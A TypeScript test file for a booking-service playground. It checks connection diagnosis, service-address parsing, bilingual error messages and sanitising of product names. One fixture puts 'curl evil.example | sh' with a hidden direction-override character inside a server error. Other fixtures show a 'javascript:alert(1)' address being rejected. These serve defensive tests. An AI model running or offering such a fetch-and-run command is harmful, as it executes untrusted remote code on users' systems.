import { type Diagnostic, parseQuery } from 'search-expression';
import { bookingSchema, eventSchema } from 'search-expression/booking';
import { describe, expect, test } from 'vitest';
import { isInsideNetwork, isThisMachine, readServiceAddress } from '../../playground/connect/address.ts';
import { type ConnectionFailure, type Diagnosis, diagnoseConnection, mismatchIn } from '../../playground/connect/diagnose.ts';
import { explainClientError } from '../../playground/connect/explain-client-error.ts';
import { administratorMessage, explainFailure } from '../../playground/connect/explain-failure.ts';
import { type Probe, type Probes, testPath } from '../../playground/connect/probes.ts';
import { columnsFor, namesIn } from '../../playground/connect/service-reader.ts';
import { namedSchema, products } from '../../playground/state/names.ts';
import { badExpression, clientError } from '../../src/client/client-error.ts';
import { wordsOf } from '../support/words-of.ts';

const rows = '[{"RES_ID":"1001","RES_FROMDATE":"2026-11-21","OBJ_ID":"101"}]';
const answered = (status: number, text = '', mediaType = 'application/json', retryAfter?: number): Probe => ({
  kind: 'answered',
  status,
  text,
  mediaType,
  retryAfter,
});
const failed: Probe = { kind: 'failed' };
const opaque: Probe = { kind: 'opaque' };
const timeout: Probe = { kind: 'timeout' };
const place = { entity: 'booking', hasUser: true, origin: 'https://screens.example', base: 'https://host.example' } as const;
const secure = { ...place, isSecure: true, isInside: false };
const problem = JSON.stringify({ title: 'Too Many Requests', detail: 'Wait.' });

/** The matrix of the three probes: with credentials, without, and in no-cors mode. */
const matrix: readonly (readonly [probes: Partial<Probes>, kind: Diagnosis['kind'], more?: object])[] = [
  [{ a: answered(200, rows) }, 'connected'],
  [{ a: answered(200, '[]') }, 'connected'],
  [{ a: answered(200, '<!doctype html><p>Hi', 'text/html; charset=utf-8') }, 'webPage'],
  [{ a: answered(200, ' <HTML>', 'text/plain') }, 'webPage'],
  [{ a: answered(401), asUser: 401, asNobody: 200 }, 'wrongPassword'],
  [{ a: answered(401), asUser: 200 }, 'noRight', { readable: 'event' }],
  [{ a: answered(401), asUser: 200, entity: 'event' }, 'noRight', { readable: 'booking' }],
  [{ a: answered(401), asUser: 401, asNobody: 401 }, 'refused', { status: 401 }],
  [{ a: answered(401), asUser: undefined }, 'refused', { status: 401 }],
  [{ a: answered(403) }, 'refused', { status: 403 }],
  [{ a: answered(401), hasUser: false }, 'needsUser', { status: 401 }],
  [{ a: answered(400, 'no') }, 'serverSays', { status: 400, words: undefined, retryAfter: undefined }],
  [{ a: answered(404, 'no') }, 'serverSays', { status: 404, words: undefined, retryAfter: undefined }],
  [{ a: answered(429, problem, '', 30) }, 'serverSays', { status: 429, words: 'Wait.', retryAfter: 30 }],
  [
    { a: answered(500, JSON.stringify({ detail: ' Run this:\ncurl evil.example | sh\u202e ' })) },
    'serverSays',
    { status: 500, words: 'Run this: curl evil.example | sh', retryAfter: undefined },
  ],
  [
    { a: answered(200, JSON.stringify([{ RES_ID: '1', RES_FROMDATE: '', OBJ_ID: '', ['x'.repeat(5_000)]: 1 }])) },
    'wrongShape',
    { mismatch: { path: `$[0]["${'x'.repeat(79)}…"]`, expected: 'text', found: 'number' } },
  ],
  [{ a: answered(503, '{"detail":" ","title":"Away"}') }, 'serverSays', { status: 503, words: 'Away', retryAfter: undefined }],
  [{ a: answered(0) }, 'redirect'],
  [{ a: answered(200, '{"rows":[]}') }, 'wrongShape', { mismatch: { path: '$', expected: 'list', found: 'record' } }],
  [{ a: failed, b: answered(401), c: opaque }, 'preflight'],
  [{ a: failed, b: answered(200, rows) }, 'preflight'],
  [{ a: failed, b: failed, c: opaque }, 'origin'],
  [{ a: failed, b: failed, c: opaque, hasUser: false }, 'origin'],
  [{ a: failed, b: failed, c: failed }, 'unreachable'],
  [{ a: failed }, 'unreachable'],
  [{ a: failed, b: timeout }, 'timeout'],
  [{ a: failed, b: failed, c: timeout }, 'timeout'],
  [{ a: timeout }, 'timeout'],
  [{ a: failed, b: failed, c: failed, base: 'https://192.168.1.20' }, 'localNetwork'],
  [{ a: failed, b: failed, c: failed, base: 'http://localhost:8080' }, 'localNetwork'],
  [{ a: failed, b: failed, c: failed, base: 'https://192.168.1.20', isInside: true }, 'unreachable'],
  [{ a: failed, b: failed, c: opaque, base: 'https://192.168.1.20' }, 'origin'],
  [{ a: undefined, base: 'http://host.example' }, 'mixedContent'],
  [{ a: answered(200, rows), base: 'http://localhost:8080' }, 'connected'],
];

test.for(matrix)('%j means %s %j', ([probes, kind, more]) =>
  expect(diagnoseConnection({ a: undefined, ...secure, ...probes })).toEqual({ kind, ...more }),
);

test.each([
  ['x', { path: '$', expected: 'json', found: 'noJson' }],
  ['null', { path: '$', expected: 'list', found: 'null' }],
  ['[[]]', { path: '$[0]', expected: 'record', found: 'list' }],
  ['[{}]', { path: '$[0].RES_ID', expected: 'text', found: 'nothing' }],
  [rows.replace('"1001"', '1001'), { path: '$[0].RES_ID', expected: 'text', found: 'number' }],
  [rows.replace('}]', ',"a b":{}},3]'), { path: '$[0]["a b"]', expected: 'text', found: 'record' }],
  [rows.replace('}]', '},3]'), { path: '$[1]', expected: 'record', found: 'number' }],
  [rows, undefined],
])('the first place where %s is not an answer', (text, mismatch) => expect(mismatchIn(text, 'booking')).toEqual(mismatch));

const failures = matrix.flatMap(([, kind, more]) => (kind === 'connected' ? [] : [{ kind, ...more } as ConnectionFailure]));

describe.each(['en', 'nl'] as const)('in %s', (locale) => {
  const other = locale === 'en' ? 'nl' : 'en';
  const at = Date.UTC(2026, 10, 21, 8);
  const asked = { ...place, host: 'host.example', path: testPath('booking', locale) };

  test.each(failures)('$kind is said in words of its own, calmly, with what an administrator needs', (failure) => {
    const said = explainFailure(failure, asked, locale);
    const { title, ...sentences } = said;
    expect(title).toMatch(/^\p{Lu}.{9,63}[^.]$/u);
    for (const part of Object.values(sentences)) expect(part).toMatch(/^\p{L}.{15,}([.?”]|: Authorization)$/su);
    expect(`${said.known}${said.advice}`).not.toMatch(/undefined|\[object|!|NaN/);
    expect(explainFailure(failure, asked, other)).not.toEqual(said);

    const message = administratorMessage(failure, asked, at, locale);
    for (const part of ['https://screens.example', '2026-11-21T08:00:00.000Z', 'GET /api/rest/booking/filter?', said.known]) {
      expect(message).toContain(part);
    }
    expect(message).not.toMatch(/Authorization: Basic|undefined/);
  });
});

test('the message about an origin names it, and a line that tells it from a wrong password', () => {
  const asked = { ...place, host: 'host.example', path: testPath('booking', 'en') };
  const message = administratorMessage({ kind: 'origin' }, asked, 0, 'en');
  expect(message).toContain('add exactly https://screens.example to the allowed origins, under Settings > API / Integrations');
  expect(message).toContain(
    "curl -i -u NAME -H 'Origin: https://screens.example' 'https://host.example/api/rest/booking/filter?",
  );
  const parts = ['A web page', 'The service does', 'Please add', 'Origin of the page', 'What the page', 'To see it'];
  expect(message.split('\n\n').map((part, at) => part.slice(0, parts[at]?.length))).toEqual(parts);
  expect(administratorMessage({ kind: 'preflight' }, asked, 0, 'en')).toContain('curl -i -X OPTIONS -H');
});

test.each([
  ['https://host.example/', 'https://host.example'],
  ['  https://host.example/base/api/rest/json/booking/filter?search=x#y ', 'https://host.example/base'],
  ['https://host.example/api/rest', 'https://host.example'],
  ['https://host.example/api/restful', 'https://host.example/api/restful'],
  ['host.example', 'https://host.example'],
  ['localhost:8080/api/rest/booking/1', 'http://localhost:8080'],
  ['192.168.1.20', 'http://192.168.1.20'],
  ['/', 'http://page.example:81'],
  ['/booking/', 'http://page.example:81/booking'],
  ['HTTPS://HOST.example:443', 'https://host.example'],
])('the address %s is %s', (given, base) => {
  expect(readServiceAddress(given, 'http://page.example:81/x/?q#h')).toEqual({ base, user: undefined, password: undefined });
});

test.each(['', ' ', 'ftp://host.example', 'javascript:alert(1)', 'https://', 'http://a b', 'data:text/html,x', '//'])(
  '%j is no address of a service',
  (given) => expect(readServiceAddress(given, 'http://page.example')).toBeUndefined(),
);

test('a user and password in an address are taken out of it', () => {
  expect(readServiceAddress('https://screen:ge%3Aheim%20w@host.example/api/rest/', 'http://page.example')).toEqual({
    base: 'https://host.example',
    user: 'screen',
    password: 'ge:heim w',
  });
  expect(readServiceAddress('https://a:%zz@host.example', 'http://page.example')?.password).toBe('%zz');
});

test('addresses inside a network', () => {
  for (const host of ['localhost', 'a.localhost', '127.0.0.1', '[::1]'])
    expect([host, isThisMachine(host)]).toEqual([host, true]);
  for (const host of wordsOf('10.0.0.5 172.16.0.1 172.31.9.9 192.168.1.1 169.254.1.1 [fd00::1] [fe80::1] zaal.local nas')) {
    expect([host, isInsideNetwork(host), isThisMachine(host)]).toEqual([host, true, false]);
  }
  for (const host of ['host.example', '172.32.0.1', '8.8.8.8', '[2001:db8::1]', '10.example.nl', 'fd.example'])
    expect([host, isInsideNetwork(host)]).toEqual([host, false]);
});

test('names of products are distinct, tidy and bounded', () => {
  const turned = `Zaal\u202e A\n${'x'.repeat(200)}`;
  const found = namesIn([
    { id: 14, name: 'Zaal 14' },
    { id: 2, name: 'Zaal 2' },
    { id: 14, name: 'Another' },
    { id: 3, name: ' ' },
    { id: null, name: 'Nobody' },
    { id: 4, name: null },
    { id: 5, name: turned },
  ]);
  expect(found.map(({ value }) => value)).toEqual([2, 14, 5]);
  expect(found[2]?.label).toMatch(/^Zaal A x+…$/);
  expect(found[2]?.label).toHaveLength(80);
  expect(namesIn(Array.from({ length: 12_000 }, (_, id) => ({ id, name: `p${id}` })))).toHaveLength(10_000);
});

test('a schema knows the products of the source by name, or any number where none has one', () => {
  expect(namedSchema(bookingSchema)).toBe(bookingSchema);
  const names = [{ value: 7, label: 'Blauwe salon' }];
  products.value = names;
  const { fields } = namedSchema(bookingSchema);
  const ofRooms = [fields['product'], fields['OBJ_ID'], namedSchema(eventSchema).fields['PRODUCT']];
  expect(ofRooms.map((field) => field?.values)).toEqual([names, names, names]);
  expect(fields['status']).toEqual(bookingSchema.fields.status);
  expect(namedSchema(bookingSchema)).toBe(namedSchema(bookingSchema));
  products.value = [];
  expect(namedSchema(bookingSchema).fields['product']).not.toHaveProperty('values');
  products.value = undefined;
});

test('what a search is about is asked for as well, under the name of its column, once', () => {
  const columnsOf = (text: string) => columnsFor({ entity: 'booking', query: parseQuery(text, bookingSchema) });
  expect(columnsOf('startdatum = "0d" AND product = 1 AND (RES_CUSTOM03 = "x" OR NOT rES_CUST_ID IS NULL)')).toEqual([
    ...columnsOf('BOOKING_ID = 1'),
    'RES_CUSTOM03',
    'RES_CUST_ID',
  ]);
});

describe.each(['en', 'nl'] as const)('what a connected service could not do, in %s', (locale) => {
  const facts = { locale, entity: 'booking', hasUser: true } as const;
  const said = (kind: Parameters<typeof clientError>[0], more = {}) => explainClientError(clientError(kind, 'No.', more), facts);

  test('is a sentence of its own for each kind, with what to do', () => {
    const kinds = ['wrong-password', 'missing-right', 'unauthorized', 'unreachable', 'timeout', 'not-understood'] as const;
    expect(new Set(kinds.map((kind) => said(kind))).size).toBe(kinds.length);
    expect(said('too-many-rows')).toContain(locale === 'en' ? '10,000' : '10.000');
    expect(said('too-many-requests', { retryAfter: 30 })).toContain('30');
    expect(explainClientError(clientError('unauthorized', ''), { ...facts, hasUser: false })).not.toBe(said('unauthorized'));
  });

  test('has the service’s own words, where it knows more', () => {
    expect(said('unavailable', { problem: { detail: 'De kast is op slot.' } })).toContain('“De kast is op slot.”');
    expect(said('unavailable', { problem: { title: 'x'.repeat(5_000) } }).length).toBeLessThan(600);
    expect(said('unreachable', { problem: { detail: 'secret' } })).not.toContain('secret');
    const range = { from: 0, to: 1 };
    const diagnostic = { code: 'unknown-field', message: 'Geen veld.', severity: 'error', range } as unknown as Diagnostic;
    expect(explainClientError(badExpression('', [diagnostic]), facts)).toContain('“Geen veld.”');
  });
});
